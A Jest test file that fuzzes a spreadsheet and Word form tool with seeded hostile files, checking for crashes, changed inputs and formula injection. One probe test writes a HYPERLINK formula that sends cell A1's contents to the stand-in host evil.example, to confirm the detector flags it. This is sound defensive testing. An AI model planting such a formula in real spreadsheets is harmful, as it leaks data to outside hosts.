/**
 * A few hundred seeded hostile files through check, check --write, merge and the engine on every CI run (issue #13):
 * no stack trace, exit codes 0/1/2, inputs unchanged (hashed before and after), no user string written as a formula.
 * The large run is `npm run fuzz -- 10000` (scripts/fuzz.ts), each file in a child process with a timeout.
 */
import { mkdirSync, readdirSync, readFileSync, symlinkSync } from "fs";
import { join } from "path";
import ExcelJS from "exceljs";
import { cli, SAMPLE_DOCX, SAMPLE_TSV, tempDir } from "./helpers";
import { generateHostile, type HostileFile } from "../support/hostile-files";
import { BIG_CASES } from "../support/hostile-big";
import { examine, fingerprint, injectedFormulas, leanReaderPresent, type Verdict } from "../support/fuzz-check";

const COUNT = Number(process.env.FUZZ_CI_COUNT ?? 200);
const SEED = 13;
const lean = leanReaderPresent(join(__dirname, "..", ".."));

let dir: string;
let cleanup: () => void;
let files: HostileFile[];
const before = new Map<string, string>();
const verdicts: Verdict[] = [];
let peakRss = 0;

beforeAll(async () => {
  ({ dir, cleanup } = tempDir("bieumau-fuzz-"));
  const good = join(dir, "good.xlsx");
  expect((await cli(["new", "--from", SAMPLE_TSV, good], dir)).code).toBe(0);
  mkdirSync(join(dir, "in"));
  files = generateHostile(join(dir, "in"), readFileSync(good), COUNT, SEED, { bigRanges: lean, specialFiles: lean, docx: readFileSync(SAMPLE_DOCX) });
  symlinkSync(join(dir, "in"), join(dir, "link-to-in"));
  for (const f of readdirSync(join(dir, "in"))) before.set(f, fingerprint(join(dir, "in", f)));
  for (const [i, file] of files.entries()) {
    verdicts.push(await examine(join(dir, "in"), dir, file, { good, linkToInputs: join(dir, "link-to-in"), merge: i % 8 === 0, throughLink: i % 10 === 0 }));
    peakRss = Math.max(peakRss, process.memoryUsage().rss);
  }
}, 300000);
afterAll(() => cleanup());

describe(`${COUNT} hostile files (seed ${SEED})`, () => {
  it("are generated the same way from the same seed, of many kinds", () => {
    const again = join(dir, "again");
    mkdirSync(again);
    // Without the large cases in front (they are made the same way, in order): the seeded files after them match.
    generateHostile(again, readFileSync(join(dir, "good.xlsx")), 40, SEED, { bigRanges: lean, specialFiles: false, bigRounds: 0, docx: readFileSync(SAMPLE_DOCX) });
    // (A file of the first run's large-case range may have another name here, .docx for .xlsx: not comparable.)
    const seeded = readdirSync(again).filter((f) => {
      const first = files.find((x) => x.name === f);
      return first !== undefined && !/^big:|fifo|devzero|devurandom/.test(first.kind);
    });
    expect(seeded.length).toBeGreaterThan(10);
    for (const f of seeded) expect(fingerprint(join(again, f))).toBe(before.get(f));
    const kinds = new Set(files.map((f) => f.kind));
    // Every large case of issue #13 items 2, 3 and 6 is among them once the lean reader reads the files.
    if (lean) for (const c of BIG_CASES) expect([...kinds]).toContain(/^(fifo|dev)/.test(c) ? c : `big:${c}`);
    expect(kinds.size).toBeGreaterThanOrEqual(15);
    expect(files.some((f) => f.payloads.some((p) => p.startsWith("=HYPERLINK")))).toBe(true);
    // Word reports too (issue #13: the same guarantees for .docx inputs), rewritten and not.
    expect(files.filter((f) => f.kind.startsWith("docx:")).length).toBeGreaterThan(COUNT / 20);
    expect(new Set(files.filter((f) => f.kind.startsWith("docx:")).map((f) => f.kind)).size).toBeGreaterThanOrEqual(6);
  });

  it("never crash: exit codes 0/1/2, no stack trace, the engine never throws", () => {
    expect(verdicts.filter((v) => v.crash).map((v) => `${v.name} ${v.kind}: ${v.crash}`)).toEqual([]);
  });

  it("never change an input, even when --write goes through a symlinked folder", () => {
    const changed = [...before].filter(([f, h]) => fingerprint(join(dir, "in", f)) !== h).map(([f]) => f);
    expect(changed).toEqual([]);
    expect(readdirSync(join(dir, "in")).filter((f) => !before.has(f))).toEqual([]);
  });

  it("the formula probe finds a payload written as a formula (it can fail)", async () => {
    const wb = new ExcelJS.Workbook();
    wb.addWorksheet("x").getCell("B2").value = { formula: "HYPERLINK(\"http://evil.example/?x=\"&A1,\"bấm vào\")" };
    const path = join(dir, "probe.xlsx");
    await wb.xlsx.writeFile(path);
    expect(injectedFormulas(path, ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"bấm vào\")"])).toHaveLength(1);
    expect(injectedFormulas(path, ["=1+1"])).toEqual([]);
  });

  it("never write a user string as a formula", () => {
    expect(verdicts.flatMap((v) => v.injected.map((f) => `${v.name}: ${f}`))).toEqual([]);
  });

  it("keep memory bounded (a crash guard, not a benchmark)", () => {
    expect(peakRss).toBeLessThan(1.5 * 1024 ** 3);
  });
});
